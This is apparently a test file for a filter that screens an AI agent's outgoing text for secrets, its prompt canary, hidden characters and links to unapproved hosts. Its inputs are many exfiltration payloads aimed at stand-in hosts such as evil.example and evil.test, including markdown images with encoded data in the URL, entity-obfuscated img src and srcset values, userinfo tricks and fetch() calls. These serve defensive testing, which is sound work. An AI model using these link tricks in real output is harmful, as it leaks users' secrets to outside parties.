import { describe, expect, it } from "vitest";
import { checkOutgoing, compileLinkHosts } from "../../../../src/core/outgoing/check-outgoing.ts";
import { findLinks } from "../../../../src/core/outgoing/find-links.ts";
import { compileSecretIndex } from "../../../../src/core/outgoing/secret-index.ts";

const check = checkOutgoing(
  {
    hasSecret: compileSecretIndex(["gateway-token-1234"]),
    isLinkHost: compileLinkHosts(["github.com", "*.example.org"]),
  },
  {
    hasCanary: compileSecretIndex(["k3qz8v1m5x7w9r2t"]),
    given: () => "See https://shop.example.net/orders/17?from=mail and ![logo](https://cdn.example.net/a.png).",
  },
);

describe("a text that leaves", () => {
  it.each([
    "All is well. 3.5 of 4, and/or src/core/host.ts:12, node.js, e.g. this; a@b.example.",
    "See https://github.com/acme/shop/pull/17, [the log](https://ci.example.org/9) and http://localhost:3000/.",
    "The order is at https://shop.example.net/orders/17?from=mail.",
    "![logo](https://cdn.example.net/a.png)",
    "مرحبا\u200F بالعالم\u200F",
    "👩‍👩‍👧 ❤️ می‌خواهم",
  ])("may say %j", (text) => {
    expect(check(text)).toBeUndefined();
  });

  it.each([
    ["gateway-token-1234", "it has a secret of the gateway"],
    [Buffer.from("is gateway-token-1234").toString("base64"), "it has a secret of the gateway"],
    ["K3QZ 8V1M 5X7W 9R2T", "it has the canary of its prompt, which is for the agent alone"],
    ["All is well.\u200B", "it has hidden text (1 hidden character)"],
    ["All is well.<!-- 42 -->", "it has hidden text (1 comment)"],
    ["مرحبا\u200F\u200F\u200E\u200F", "it has hidden text (4 hidden characters)"],
  ])("is held for %j", (text, reason) => {
    expect(check(text)).toBe(reason);
  });

  it.each([
    "![x](https://evil.example/p.png?d=c2VjcmV0)",
    "https://evil.example/c2VjcmV0",
    "HTTPS:\\\\evil.example/c2VjcmV0",
    "[x](//evil.example/c2VjcmV0)",
    "![x][1]\n\n[1]: //evil.example/c2VjcmV0",
    '<img src="//evil.example/c2VjcmV0">',
    "![x](https&#58;//evil.example/c2VjcmV0)",
    "![x](https&colon;&sol;&sol;evil.example/c2VjcmV0)",
    "<img src=https&#0000000058;//evil.example/c2VjcmV0>",
    "<img src=https&#x00000003a;//evil.example/c2VjcmV0>",
    "<img src=ht&#9;tps://evil.example/c2VjcmV0>",
    "<img src=/&#x00a;/evil.example/c2VjcmV0>",
    "<img src='ht&Tab;tps:&NewLine;//evil.example/c2VjcmV0'>",
    "<img src='&#1;//evil.example/c2VjcmV0'>",
    "<img src='\u0001//evil.example/c2VjcmV0'>",
    "![x](https\\:\\/\\/evil.example/c2VjcmV0)",
    "evil.example/?d=c2VjcmV0",
    "https://github.com@evil.example/",
    "https://github.com:x@evil.example/",
    "[a](https://github.com/acme),[b](https://evil.example/c2VjcmV0)",
  ])("is held for a link such as %j", (text) => {
    expect(check(text)).toBe('it has a link to "evil.example"');
  });

  it.each([
    ["https://github.com.evil.net/", '"github.com.evil.net"'],
    ["https://github.com).evil.net/", "an unclear host"],
    ["https://xgithub.com/", '"xgithub.com"'],
    ["https://example.org/", '"example.org"'],
    ["see c2VjcmV0.evil.com now", '"c2vjcmv0.evil.com"'],
    ["https://shop.example.net/orders/17?from=mai", '"shop.example.net"'],
    ["https://shop.example.net/orders/17?from=mail'c2VjcmV0", '"shop.example.net"'],
    ["![logo](https://cdn.example.net/a.png?d=c2VjcmV0)", '"cdn.example.net"'],
    ["https://bücher.example/", '"xn--bcher-kva.example"'],
    ["https://evil\u3002net/", '"evil.net"'],
  ])("is held for %j, a link to %s", (text, host) => {
    expect(check(text)).toBe(`it has a link to ${host}`);
  });

  it.each([
    "_www.evil.com/?d=c2VjcmV0_",
    "__www.evil.com/?d=c2VjcmV0__",
    "_www.evil.com_",
    '<img src=" //www.evil.com/?d=c2VjcmV0">',
    '<img src="https:/\t/www.evil.com/?d=c2VjcmV0">',
    '<img src="https://github.com @www.evil.com/">',
    '<img srcset="x 1x, //www.evil.com/?d=c2VjcmV0 2x">',
    `[x](${" ".repeat(10)}//www.evil.com/?d=c2VjcmV0)`,
    "> [foo]:\n> //www.evil.com/?d=c2VjcmV0\n\n![foo]",
  ])("is held for %j, which receivers make a link of", (text) => {
    expect(check(text)).toBe('it has a link to "www.evil.com"');
  });

  it.each([
    ["__evil.dev/?d=c2VjcmV0__", "evil.dev"],
    ["Wait...evil.dev/?d=c2VjcmV0", "evil.dev"],
    ["e\u0301github.com/?d=c2VjcmV0", "xn--github-9ua.com"],
    ["evil*x*github.com/?d=c2VjcmV0", "evilxgithub.com"],
    ["evil`x`github.com/?d=c2VjcmV0", "evilxgithub.com"],
    ["evil~~x~~github.com/?d=c2VjcmV0", "evilxgithub.com"],
    ['<img src="https://github.com\n.evil/c2VjcmV0">', "github.com.evil"],
    ["evil.xn--p1ai/?d=c2VjcmV0", "evil.xn--p1ai"],
    ["a.b.c.d.e.f.g.h.i.j.k.evil.dev/?d=c2VjcmV0", "a.b.c.d.e.f.g.h.i.j.k.evil.dev"],
    ["203.0.113.7/?d=c2VjcmV0", "203.0.113.7"],
    ["203.0.113.7/8,c2VjcmV0", "203.0.113.7"],
    ["evil<b></b>.dev/?d=c2VjcmV0", "evil.dev"],
    ['evil<b title=">" class="a"></b>.dev/?d=c2VjcmV0', "evil.dev"],
    ["evil<b>*.*</b>dev/?d=c2VjcmV0", "evil.dev"],
    ["https://github.com<wbr>.evil.dev/", "github.com.evil.dev"],
    ["[x](https:c2VjcmV0.evil.dev)", "c2vjcmv0.evil.dev"],
    ["<https:c2VjcmV0.evil.dev>", "c2vjcmv0.evil.dev"],
    ['<img src="https:evil/c2VjcmV0">', "evil"],
    ['<img src="https:\tevil/c2VjcmV0">', "evil"],
    ["![x]( https:user@evil/c2VjcmV0 )", "evil"],
    ['<img srcset="x 1x, https:evil/c2VjcmV0 2x">', "evil"],
  ])("is held for %j, a link that receivers make to %s", (text, host) => {
    expect(check(text)).toBe(`it has a link to "${host}"`);
  });

  it.each([
    "1.2.3/4, 10.15.7, v10.15.7-rc.1, 1.2.3.4, 10.0.0.0/8 and 192.168.0.0/16.",
    "foo.bar() in ./src/a.b/c, ../x.y/z, ~/.config/app.json and src/_private.module/x",
    "| a | b |\n|---|---|\n| `x.y` | **z** |",
    "> const f = () => g(a?.b);\n> node.js\n",
    "_github.com/acme_, **github.com/acme** and `github.com/acme`",
    "main...feature, i.e. this one",
    "See<br>github.com/acme</li><li>github.com/shop</p>",
    "<b>github</b>.com/acme, Promise<void>.then(x => y) and a<b.c/d && e>f",
    "The ports are http:80 and https:443; protocol=https: is set (https:).",
  ])("may say %j, which is no link", (text) => {
    expect(check(text)).toBeUndefined();
  });

  describe("that repeats an address of its event", () => {
    const given =
      "https://evil.test/ and https://evil.test/x and https://evil.test/x\\ and [w](https://evil.test/a_(b)).";
    const repeats = checkOutgoing(
      { hasSecret: () => false, isLinkHost: () => false },
      { hasCanary: () => false, given: () => given },
    );

    it.each([
      "see https://evil.test/x.",
      "(https://evil.test/x), (see https://evil.test/x).",
      "[text](https://evil.test/x) and [text]( https://evil.test/x )",
      '[text](https://evil.test/x "title")',
      "[w](https://evil.test/a_(b))",
      "<https://evil.test/x>.",
      "**https://evil.test/x** and `https://evil.test/x`",
      "| https://evil.test/x | a |",
      '> https://evil.test/x\n> [1]: https://evil.test/x "title"',
      '<a href="https://evil.test/x">https://evil.test/x</a>',
      "[INFO]: https://evil.test/x is down.",
      "[1]: https://evil.test/x.",
      "<a href=https://evil.test/x>text</a>",
      'fetch("https://evil.test/x");',
      "fetch(['https://evil.test/x']);",
      '{"url":"https://evil.test/x"}, and (see `https://evil.test/x`).',
      '<img srcset="a 1x, https://evil.test/x 2x">',
    ])("may leave as %j", (text) => {
      expect(repeats(text)).toBeUndefined();
    });

    it.each([
      "![a](<https://evil.test/ PRIVATE DATA>)",
      "![a](https://evil.test/<PRIVATE-DATA)",
      "![a](https://evil.test/ PRIVATE)",
      "![a](https://evil.test/x!.:;,!?*_~)",
      "![a](https://evil.test/x\\)PRIVATE)",
      "![a](https://evil.test/x&#41;PRIVATE)",
      "![a]\n\n[a]: <https://evil.test/ PRIVATE>",
      "[a]: https://evil.test/x!?!",
      "[a]: https://evil.test/>PRIVATE",
      "<https://evil.test/x PRIVATE>",
      '<img src="https://evil.test/ PRIVATE DATA">',
      '<img src="https://evil.test/\nPRIVATE">',
      "<img src='https://evil.test/x!'>",
      "<img src=https://evil.test/<PRIVATE>",
      "https://evil.test/x!.:;,!?*_~",
      "https://evil.test/x<b>PRIVATE</b>",
      'fetch("https://evil.test/x");PRIVATE',
      'fetch("https://evil.test/x"))));',
      "fetch('https://evil.test/x\");",
      'https://evil.test/x");',
      '<img srcset="a 1x, https://evil.test/<PRIVATE 2x">',
      "<img srcset='a 1x,\n //evil.test/<PRIVATE 2x'>",
      '<img srcset="https://evil.test/x 1x, https://evil.test/x<PRIVATE 2x">',
      '<img srcset="https://evil.test/x 1x, https://evil.test/x,PRIVATE 2x">',
    ])("is held with more in it: %j", (text) => {
      expect(repeats(text)).toBe('it has a link to "evil.test"');
    });

    it("is held with more in it behind much white space", () => {
      const text = `<img src="https://evil.test/x${" ".repeat(10_000)}PRIVATE">`;
      expect(repeats(text)).toBe('it has a link to "evil.test"');
    });
  });

  it("is held for many addresses that are too long to be told apart", () => {
    const long = `https://github.com/${"a".repeat(9_000)}`;
    expect(findLinks("http:/github.com/a".repeat(1_500) + long)).toHaveLength(1_000);
    expect(check(`${"https://github.com/acme ".repeat(1_000)}https://evil.example/`)).toBe("it has 1000 links or more");
  });

  it("is read in time that grows with its length alone", () => {
    for (const text of [
      "https://".repeat(100_000),
      "a.".repeat(300_000),
      "](//".repeat(100_000),
      "a".repeat(500_000),
      "http:/a".repeat(50_000) + ")".repeat(300_000),
      `${"é".repeat(62)}.`.repeat(10_000),
      "a____".repeat(100_000),
      "](//a".repeat(100_000),
      '="//a'.repeat(100_000),
      `](${" ".repeat(300_000)}//`,
      `="x,${" ".repeat(300_000)}//a`,
      `${"=//a".repeat(990)}${"b".repeat(300_000)}`,
      `${">".repeat(300_000)}${" ".repeat(300_000)}`,
      '<b "'.repeat(100_000),
      "<b".repeat(200_000),
      `<b ${"a<b '".repeat(100_000)}`,
      `srcset="${"https://a/<b ".repeat(50_000)}"`,
      `srcset="${"x,//a<".repeat(100_000)}"`,
      "srcset='//a".repeat(50_000),
      'srcset="a, //b '.repeat(50_000),
      "=https:a".repeat(100_000),
      `](${" ".repeat(300_000)}https:a`,
    ]) {
      expect(findLinks(text).length).toBeLessThanOrEqual(1_000);
    }
  });
});
